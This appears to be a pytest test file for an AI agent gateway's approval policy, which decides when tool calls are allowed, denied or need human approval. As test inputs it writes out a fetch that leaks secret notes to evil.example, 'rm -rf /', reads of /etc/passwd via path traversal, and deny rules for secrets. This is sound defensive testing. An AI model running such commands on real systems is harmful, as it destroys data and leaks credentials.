"""Approval rules, the gate decision, deny hiding, bypasses, auto-deny, texts and approvers."""

from __future__ import annotations

import logging
from datetime import UTC, datetime, timedelta

import pytest
from tooling import THREAD, builtin

from gateway.approvals.policy import (
    AUTO_DENIED,
    EXPIRED,
    ApprovalPolicy,
    Bypass,
    denied_by_rule_text,
    may_decide,
    rejection_text,
)
from gateway.config import ApprovalsConfig
from gateway.events import ThreadKey

SHELL, WRITE, READ, FETCH, CLOCK = (builtin(n) for n in ("shell", "write_file", "read_file", "web_fetch", "clock"))
OTHER_THREAD = ThreadKey("telegram", "42", "8")
T0 = datetime(2026, 7, 1, 12, 0, tzinfo=UTC)


def decide(policy, spec, args=None, *, source="telegram", interactive=True, bypasses=(), thread=THREAD, now=T0):
    return policy.decide(
        spec, args or {}, source=source, interactive=interactive, bypasses=bypasses, thread=thread, now=now
    )


@pytest.fixture
def ws(tmp_path):
    root = tmp_path / "ws"
    (root / "secrets").mkdir(parents=True)
    (root / "docs").mkdir()
    (root / "innocent").symlink_to(root / "secrets")
    return root


def test_unmatched_calls_follow_side_effects(ws):
    policy = ApprovalPolicy([], ws)
    read = decide(policy, READ, {"path": "a.txt"})
    write = decide(policy, WRITE, {"path": "a.txt", "content": ""})
    assert (read.action, read.rule_index, read.bypassed) == ("allow", None, False)
    assert (write.action, write.rule_index) == ("require", None)
    assert "side effects" in write.reason


def test_web_fetch_to_a_host_off_the_allow_list_needs_approval(ws):
    from gateway.config import AgentConfig
    from gateway.tools import default_registry

    fetch = default_registry(AgentConfig(http_allow_hosts=["*.wikipedia.org", "api.github.com"])).get("web_fetch")
    policy = ApprovalPolicy([], ws)
    allowed = decide(policy, fetch, {"url": "https://en.wikipedia.org/wiki/Fence"})
    listed = decide(policy, fetch, {"url": "https://API.github.com/repos"})
    leaking = decide(policy, fetch, {"url": "https://evil.example/?q=the-secret-notes"})
    assert (allowed.action, listed.action) == ("allow", "allow")
    assert leaking.action == "require" and "evil.example is not on agent.http_allow_hosts" in leaking.reason
    assert decide(policy, FETCH, {"url": "https://en.wikipedia.org/"}).action == "require"  # empty list: all ask
    cron = decide(policy, fetch, {"url": "https://evil.example/"}, source="cron", interactive=False)
    assert cron.action == "auto_deny"
    trusting = ApprovalPolicy([{"tool": "web_fetch", "action": "allow"}], ws)
    assert decide(trusting, fetch, {"url": "https://evil.example/"}).action == "allow"  # a rule decides first


def test_tool_name_glob(ws):
    policy = ApprovalPolicy([{"tool": "scratch*", "action": "deny"}, {"tool": "wri?e_file", "action": "allow"}], ws)
    assert decide(policy, builtin("scratchpad_get")).action == "deny"
    assert decide(policy, WRITE, {"path": "x", "content": ""}).action == "allow"
    assert decide(policy, CLOCK).action == "allow"


@pytest.mark.parametrize(
    "token, matched, unmatched",
    [
        ("@side_effects", ["shell", "write_file"], ["read_file", "web_fetch", "clock"]),
        ("@fs_write", ["write_file"], ["read_file", "shell"]),
        ("@exec", ["shell"], ["write_file", "clock"]),
        ("@network", ["web_fetch"], ["shell", "read_file"]),
        ("@all", ["clock", "shell", "read_file"], []),
    ],
)
def test_class_tokens(ws, token, matched, unmatched):
    policy = ApprovalPolicy([{"tool": token, "action": "deny"}], ws)
    for name in matched:
        assert decide(policy, builtin(name)).action == "deny", name
    for name in unmatched:
        assert decide(policy, builtin(name)).action != "deny", name


def test_path_glob_matches_canonical_paths(ws):
    policy = ApprovalPolicy(
        [{"tool": "read_file", "args": {"path": "secrets/*"}, "action": "deny", "priority": 10}], ws
    )
    denied = [
        "secrets/token",
        "./secrets/a/b",
        "docs/../secrets/token",
        "innocent/token",
        "secrets",
        str(ws / "secrets/k"),
    ]
    for path in denied:
        assert decide(policy, READ, {"path": path}).action == "deny", path
    for path in ["docs/secrets.txt", "secrets-old/token", "docs/a"]:
        assert decide(policy, READ, {"path": path}).action == "allow", path
    assert decide(policy, READ, {}).action == "allow"  # a path rule never matches a call without the path


def test_absolute_path_glob_for_paths_outside_the_workspace(ws):
    policy = ApprovalPolicy([{"tool": "@all", "args": {"path": "/etc/*"}, "action": "deny"}], ws)
    assert decide(policy, READ, {"path": "/etc/passwd"}).action == "deny"
    assert decide(policy, READ, {"path": "../" * 30 + "etc/passwd"}).action == "deny"
    assert decide(policy, READ, {"path": "etc/passwd"}).action == "allow"
    assert decide(policy, SHELL, {"command": "cat /etc/passwd"}).action == "require"  # no path argument


def test_regex_and_plain_globs_on_named_arguments(ws):
    policy = ApprovalPolicy(
        [
            {"tool": "shell", "args": {"command": r"re:\brm\s+-rf\b"}, "action": "deny"},
            {"tool": "shell", "args": {"command": "re:^(ls|pwd)( |$)"}, "action": "allow"},
            {"tool": "web_fetch", "args": {"url": "*://internal.*"}, "action": "deny"},
        ],
        ws,
    )
    assert decide(policy, SHELL, {"command": "cd x && rm -rf /"}).action == "deny"
    assert decide(policy, SHELL, {"command": "ls -la"}).action == "allow"
    assert decide(policy, SHELL, {"command": "make test"}).action == "require"
    assert decide(policy, FETCH, {"url": "https://internal.corp/x"}).action == "deny"
    # Unmatched by the rules: a host off agent.http_allow_hosts (empty here) needs approval.
    assert decide(policy, FETCH, {"url": "https://example.com/"}).action == "require"


def test_source_condition_single_and_list(ws):
    policy = ApprovalPolicy(
        [
            {"tool": "@side_effects", "source": ["cron", "tick"], "action": "deny"},
            {"tool": "write_file", "source": "console", "action": "allow"},
        ],
        ws,
    )
    args = {"path": "x", "content": ""}
    assert decide(policy, WRITE, args, source="cron", interactive=False).action == "deny"
    assert decide(policy, SHELL, {"command": "ls"}, source="tick", interactive=False).action == "deny"
    assert decide(policy, WRITE, args, source="console").action == "allow"
    assert decide(policy, WRITE, args, source="slack").action == "require"


def test_priority_then_order_first_match_wins(ws):
    by_order = ApprovalPolicy([{"tool": "shell", "action": "allow"}, {"tool": "shell", "action": "deny"}], ws)
    assert (decide(by_order, SHELL).action, decide(by_order, SHELL).rule_index) == ("allow", 0)
    by_priority = ApprovalPolicy(
        [
            {"tool": "*", "action": "require", "priority": -5},
            {"tool": "shell", "action": "allow"},
            {"tool": "@exec", "action": "deny", "priority": 5},
        ],
        ws,
    )
    decision = decide(by_priority, SHELL)
    assert (decision.action, decision.rule_index) == ("deny", 2)
    assert decision.reason == denied_by_rule_text(2)
    assert decide(by_priority, CLOCK).action == "require"  # the low-priority catch-all still applies


def test_deny_hides_tools_only_when_unconditional_for_the_source(ws):
    policy = ApprovalPolicy(
        [
            {"tool": "shell", "action": "deny"},
            {"tool": "read_file", "args": {"path": "secrets/*"}, "action": "deny"},
            {"tool": "@side_effects", "source": "cron", "action": "deny"},
            {"tool": "web_fetch", "args": {"url": "re:^https://ok"}, "action": "allow", "priority": 1},
            {"tool": "web_fetch", "action": "deny"},
        ],
        ws,
    )
    specs = [SHELL, WRITE, READ, FETCH, CLOCK]
    assert policy.hidden_tools(specs, "telegram") == {"shell"}
    assert policy.hidden_tools(specs, "cron") == {"shell", "write_file"}
    # a hidden or conditionally denied tool is still refused when called anyway
    assert decide(policy, SHELL, {"command": "ls"}).action == "deny"
    assert decide(policy, FETCH, {"url": "https://evil"}).action == "deny"
    assert decide(policy, FETCH, {"url": "https://ok.example"}).action == "allow"


def test_bypass_for_fifteen_minutes(ws):
    policy = ApprovalPolicy([], ws)
    bypass = Bypass.for_minutes("shell", THREAD, now=T0)
    assert bypass.expires_at == T0 + timedelta(minutes=15)
    inside = decide(policy, SHELL, bypasses=[bypass], now=T0 + timedelta(minutes=14))
    assert (inside.action, inside.bypassed) == ("allow", True)
    after = decide(policy, SHELL, bypasses=[bypass], now=T0 + timedelta(minutes=15, seconds=1))
    assert (after.action, after.bypassed) == ("require", False)
    naive_now = decide(policy, SHELL, bypasses=[bypass], now=datetime(2026, 7, 1, 12, 5))
    assert naive_now.action == "allow"


def test_bypass_for_a_thread_and_for_one_tool_only(ws):
    policy = ApprovalPolicy([], ws)
    bypass = Bypass.for_thread("shell", THREAD)
    assert decide(policy, SHELL, bypasses=[bypass]).action == "allow"
    assert decide(policy, SHELL, bypasses=[bypass], thread=OTHER_THREAD).action == "require"
    assert decide(policy, WRITE, {"path": "x", "content": ""}, bypasses=[bypass]).action == "require"
    # without a thread, the caller has already chosen the thread's bypasses
    assert decide(policy, SHELL, bypasses=[bypass], thread=None).action == "allow"


def test_bypass_never_overrides_deny(ws):
    policy = ApprovalPolicy([{"tool": "shell", "args": {"command": "re:sudo"}, "action": "deny"}], ws)
    bypasses = [Bypass.for_thread("shell", THREAD), Bypass("*", None)]
    assert decide(policy, SHELL, {"command": "sudo reboot"}, bypasses=bypasses).action == "deny"
    assert decide(policy, SHELL, {"command": "uptime"}, bypasses=bypasses).bypassed


def test_non_interactive_require_becomes_auto_deny(ws):
    policy = ApprovalPolicy([{"tool": "write_file", "action": "deny"}], ws)
    auto = decide(policy, SHELL, {"command": "ls"}, source="cron", interactive=False)
    assert (auto.action, auto.reason) == ("auto_deny", AUTO_DENIED)
    assert AUTO_DENIED == "Tool call auto-denied: this session cannot ask for approval."
    assert decide(policy, READ, {"path": "x"}, source="tick", interactive=False).action == "allow"
    assert decide(policy, WRITE, {"path": "x", "content": ""}, source="cron", interactive=False).action == "deny"


@pytest.mark.parametrize(
    "bad_rule",
    [
        {"tool": "shell", "args": {"command": "re:[unclosed"}, "action": "deny"},
        {"tool": "shell", "action": "maybe"},
        {"tool": "shell", "action": "allow", "source": "email"},
        {"tool": "shell", "action": "allow", "note": "unknown key"},
        {"tool": "shell", "action": "allow", "args": {"command": 5}},
        {"tool": "shell", "action": "allow", "priority": "high"},
    ],
)
def test_broken_rule_fails_closed_for_the_tool_it_names(ws, bad_rule, caplog):
    with caplog.at_level(logging.ERROR, logger="gateway.approvals.policy"):
        policy = ApprovalPolicy([{"tool": "shell", "action": "allow"}, bad_rule], ws)
    decision = decide(policy, SHELL, {"command": "ls"})
    assert (decision.action, decision.rule_index) == ("require", 1)
    assert "could not be loaded" in decision.reason
    assert "approvals.rules[1]" in caplog.text
    assert policy.errors and policy.errors[0].startswith("approvals.rules[1]: ")
    assert decide(policy, CLOCK).action == "allow"  # other tools are unaffected
    assert decide(policy, SHELL, source="cron", interactive=False).action == "auto_deny"


@pytest.mark.parametrize(
    "bad_rule", ["shell: require", {"action": "allow"}, {"tool": "@exce", "action": "allow"}, None]
)
def test_unparseable_rule_fails_closed_for_every_tool(ws, bad_rule):
    policy = ApprovalPolicy([{"tool": "*", "action": "allow"}, bad_rule], ws)
    for spec in (CLOCK, READ, SHELL):
        assert decide(policy, spec).action == "require", spec.name


def test_broken_rule_never_loosens_a_deny(ws):
    policy = ApprovalPolicy([{"tool": "shell", "action": "deny"}, {"tool": "shell", "action": "bogus"}], ws)
    assert decide(policy, SHELL, bypasses=[Bypass.for_thread("shell", THREAD)]).action == "deny"
    assert policy.hidden_tools([SHELL], "telegram") == {"shell"}


def test_rejection_and_denial_texts():
    assert rejection_text(None) == "User rejected this tool call."
    assert rejection_text("  ") == "User rejected this tool call."
    assert rejection_text("too risky") == "User rejected this tool call. Reason: too risky"
    assert rejection_text(EXPIRED) == "User rejected this tool call. Reason: approval expired"
    assert denied_by_rule_text(3) == "Tool call denied by approval policy (approvals.rules[3])."
    assert denied_by_rule_text() == "Tool call denied by approval policy."


def test_policy_from_the_documented_config_shape(ws):
    config = ApprovalsConfig.model_validate(
        {
            "rules": [
                {"tool": "shell", "action": "require"},
                {"tool": "read_file", "args": {"path": "secrets/*"}, "action": "deny", "priority": 10},
                {"tool": "@side_effects", "source": ["cron", "tick"], "action": "deny"},
            ],
            "approvers": {"telegram": [123456789], "slack": ["U012ABCDEF"]},
            "expire_after": "24h",
        }
    )
    policy = ApprovalPolicy.from_config(config, ws)
    assert policy.errors == []
    assert decide(policy, SHELL, {"command": "ls"}).action == "require"
    assert decide(policy, READ, {"path": "secrets/k"}).action == "deny"
    assert decide(policy, WRITE, {"path": "x", "content": ""}, source="tick", interactive=False).action == "deny"
    assert may_decide("telegram", 123456789, requested_by="5", approvers_config=config.approvers,
                      admins_config=config.admins)


def test_who_may_decide():
    approvers = {"telegram": ["111"], "slack": []}
    admins = {"telegram": ["999"], "slack": ["UADMIN"]}

    def may(channel, user, requested_by):
        return may_decide(channel, user, requested_by=requested_by, approvers_config=approvers, admins_config=admins)

    assert may("telegram", 111, "222") and may("telegram", "999", "222")
    assert not may("telegram", "222", "222")  # configured approvers replace the requester
    assert may("slack", "UREQ", "UREQ") and may("slack", "UADMIN", "UREQ")
    assert not may("slack", "UOTHER", "UREQ")
    assert not may("console", "anyone", None) and not may("console", "", "")
